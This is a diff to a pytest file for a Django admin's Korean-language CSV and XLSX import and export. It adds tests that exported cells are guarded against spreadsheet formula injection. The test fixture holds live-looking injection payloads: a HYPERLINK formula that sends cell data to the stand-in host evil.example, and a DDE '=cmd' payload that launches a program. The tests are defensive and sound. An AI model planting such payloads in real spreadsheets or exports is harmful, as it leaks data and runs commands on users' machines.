@@ -3,6 +3,7 @@ confirm views; every row arrives as a draft with its history, or nothing is writ
 name the row and the column; Korean survives UTF-8, CP949 and XLSX both ways; uploads are
 checked for size and type; exports keep Korean intact."""
 
+import csv
 import datetime as dt
 import io
 import json
@@ -622,13 +623,18 @@ def test_export_follows_the_lists_search(editor_client, korean_deal):
     assert "other-deal" not in text
 
 
-def test_exported_deals_import_again_as_new_drafts(editor_client, korean_deal):
-    text = _export(editor_client, "Deal", 0).content.decode("utf-8-sig")
-    copied = text.replace("apec-blackwell", "apec-blackwell-copy")
-    preview = _preview(editor_client, "deal", "export.csv", copied.encode("utf-8-sig"))
+def _export_and_import_a_copy(client, slug: str) -> models.Deal:
+    """Export the deals as CSV, import the file again with `slug` renamed, return the copy."""
+    text = _export(client, "Deal", 0).content.decode("utf-8-sig")
+    copied = text.replace(slug, f"{slug}-copy")
+    preview = _preview(client, "deal", "export.csv", copied.encode("utf-8-sig"))
     assert _problems(preview) == []
-    _confirm(editor_client, "deal", preview)
-    copy = models.Deal.objects.get(slug="apec-blackwell-copy")
+    _confirm(client, "deal", preview)
+    return models.Deal.objects.get(slug=f"{slug}-copy")
+
+
+def test_exported_deals_import_again_as_new_drafts(editor_client, korean_deal):
+    copy = _export_and_import_a_copy(editor_client, "apec-blackwell")
     assert copy.publication == models.Publication.DRAFT
     assert copy.title_ko == "한국에 블랙웰 26만 장"
     assert {(p.company_id, p.role) for p in copy.parties.all()} == {
@@ -649,3 +655,66 @@ def test_deal_export_runs_a_fixed_number_of_queries(
         response = _export(editor_client, "Deal", 0)
     assert response.status_code == 200
     assert len(response.content.decode("utf-8-sig").splitlines()) == rows + 1
+
+
+# --- Cells that would run as formulas ---------------------------------------------------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"클릭")',
+    "title_ko": "+삼성전자 공급",
+    "summary": "@SUM(A1:A9)",
+    "summary_ko": "-2+3 계산",
+    "product": "\t=cmd|' /C calc'!A0",
+}
+
+
+@pytest.fixture
+def formula_deal(db):
+    return factories.make_deal(slug="formula-deal", **FORMULAS)
+
+
+def test_exported_csv_cells_cannot_run_as_formulas(editor_client, formula_deal):
+    text = _export(editor_client, "Deal", 0).content.decode("utf-8-sig")
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    for column in FORMULAS:
+        stored = getattr(models.Deal.objects.get(pk=formula_deal.pk), column)
+        assert row[column] == "'" + stored, column
+    assert row["slug"] == "formula-deal"
+
+
+def test_exported_xlsx_holds_text_not_formulas(editor_client, formula_deal):
+    sheet = openpyxl.load_workbook(io.BytesIO(_export(editor_client, "Deal", 1).content)).active
+    header = [cell.value for cell in sheet[1]]
+    cells = dict(zip(header, sheet[2], strict=True))
+    for column in FORMULAS:
+        assert cells[column].data_type == "s", column
+        assert cells[column].value.startswith("'"), column
+
+
+def test_guarded_cells_import_back_to_the_same_text(editor_client, formula_deal):
+    copy = _export_and_import_a_copy(editor_client, "formula-deal")
+    original = models.Deal.objects.get(pk=formula_deal.pk)
+    for column in FORMULAS:
+        # Import trims every text cell, as the admin's forms do (the tab in front of product).
+        assert getattr(copy, column) == getattr(original, column).strip(), column
+    assert copy.product == "=cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("@인용", "'@인용"),
+        ("-5", "-5"),  # a plain number is not a formula
+        ("+3.25", "+3.25"),
+        ("-5 USD", "'-5 USD"),
+        ("삼성=1", "삼성=1"),
+        ("", ""),
+        (260000, 260000),
+        (None, None),
+    ],
+)
+def test_safe_cell(value, cell):
+    assert spreadsheets.safe_cell(value) == cell
+    if isinstance(value, str):
+        assert spreadsheets.text_of(cell) == value.strip()
